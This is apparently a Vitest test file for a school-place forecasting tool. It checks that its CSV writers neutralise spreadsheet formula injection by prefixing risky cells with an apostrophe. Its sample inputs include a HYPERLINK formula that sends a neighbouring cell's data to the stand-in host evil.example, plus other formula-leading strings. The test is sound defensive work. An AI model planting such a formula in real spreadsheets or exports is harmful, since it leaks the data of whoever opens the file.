import { mkdtempSync, readdirSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { main } from "../../src/cli/main.js";
import { chinaSchoolSystem, parseDataset, type DatasetInput } from "../../src/index.js";
import { csvText, safeReadDataset, writeCsvTables, writeDatasetFiles } from "../../src/node.js";
import { smallInput } from "./small.js";

// Issue 20 item 1: cells starting with =, +, -, @, tab or CR are formulas to a spreadsheet (OWASP
// "CSV injection"); the usual defence is a leading apostrophe, which spreadsheets show as text.
const EVIL = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"];

function tmp(): string {
  return mkdtempSync(join(tmpdir(), "placecast-formula-"));
}

/** Every cell of every CSV file in a folder (header included). */
function csvCells(dir: string): { file: string; cell: string }[] {
  return readdirSync(dir)
    .filter((f) => f.endsWith(".csv"))
    .flatMap((f) => (parse(readFileSync(join(dir, f), "utf8"), { bom: true, relax_column_count: true }) as string[][]).flat().map((cell) => ({ file: f, cell })));
}

/** A cell a spreadsheet would run as a formula: a formula-leading character, unless the cell is a plain number (-4). */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}

/** The small dataset with its county renamed to `id` everywhere. */
function renamed(id: string): DatasetInput {
  const swap = <T extends { area?: unknown }>(r: T): T => (r.area === "county" ? { ...r, area: id } : r);
  return {
    ...smallInput,
    areas: smallInput.areas.map((a) => ((a as { id: string }).id === "county" ? { ...(a as object), id, note: EVIL[1] } : a)),
    enrolment: smallInput.enrolment.map((r) => swap(r as { area: string })),
    capacity: smallInput.capacity!.map((r) => swap(r as { area: string })),
    plannedPlaces: smallInput.plannedPlaces!.map((r) => swap(r as { area: string })),
    housing: smallInput.housing!.map((r) => swap(r as { area: string })),
  };
}

describe("CSV formula injection (issue 20 item 1)", () => {
  it("csvText escapes text cells that start with =, +, -, @, tab or CR; numbers (-4) stay numbers", () => {
    const text = csvText({ name: "t", columns: ["text", "number"], rows: EVIL.map((s, i) => [s, -4 - i]) });
    const rows = parse(text, { relax_column_count: true }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(EVIL.map((s) => `'${s}`));
    expect(rows.slice(1).map((r) => r[1])).toEqual(EVIL.map((_, i) => String(-4 - i)));
  });

  it("a text cell that already starts with an apostrophe before a formula character keeps it (the escape is reversible)", () => {
    const text = csvText({ name: "t", columns: ["a"], rows: [["'=1"], ["'plain"], ["don't"]] });
    expect((parse(text) as string[][]).slice(1).map((r) => r[0])).toEqual(["''=1", "'plain", "don't"]);
  });

  it("writeCsvTables, writeDatasetFiles and the forecast command write no formula; the reader reads back what was written", async () => {
    const bad = EVIL[0]!;
    const input = renamed(bad);
    const ds = parseDataset(input, chinaSchoolSystem);

    const tablesDir = tmp();
    await writeCsvTables([{ name: "t", columns: ["area", "pupils"], rows: EVIL.map((s) => [s, -4]) }], tablesDir);
    expect(csvCells(tablesDir).filter((c) => isFormula(c.cell))).toEqual([]);

    const dataDir = tmp();
    await writeDatasetFiles(ds, dataDir, "csv");
    expect(csvCells(dataDir).filter((c) => isFormula(c.cell))).toEqual([]);
    const back = await safeReadDataset(dataDir, chinaSchoolSystem);
    if (!back.success) throw new Error(back.issues.map((i) => i.message).join("\n"));
    expect(back.data.areas.map((a) => a.id)).toEqual(["city", bad]);
    expect(back.data.areas[1]!.note).toBe(EVIL[1]);
    expect(back.data.enrolment).toEqual(ds.enrolment);

    const out = tmp();
    const sink = { write: () => true };
    const code = await main(["forecast", "--data", dataDir, "--out", out, "--quiet", "--format", "csv", "--draws", "20"], { stdout: sink, stderr: sink });
    expect(code).toBe(0);
    const cells = csvCells(out);
    expect(cells.filter((c) => c.cell.includes("HYPERLINK")).length).toBeGreaterThan(10);
    expect(cells.filter((c) => isFormula(c.cell))).toEqual([]);
    // Negative numbers (a shortfall) are written as numbers, not escaped.
    expect(cells.some((c) => /^-\d/.test(c.cell))).toBe(true);
  });
});
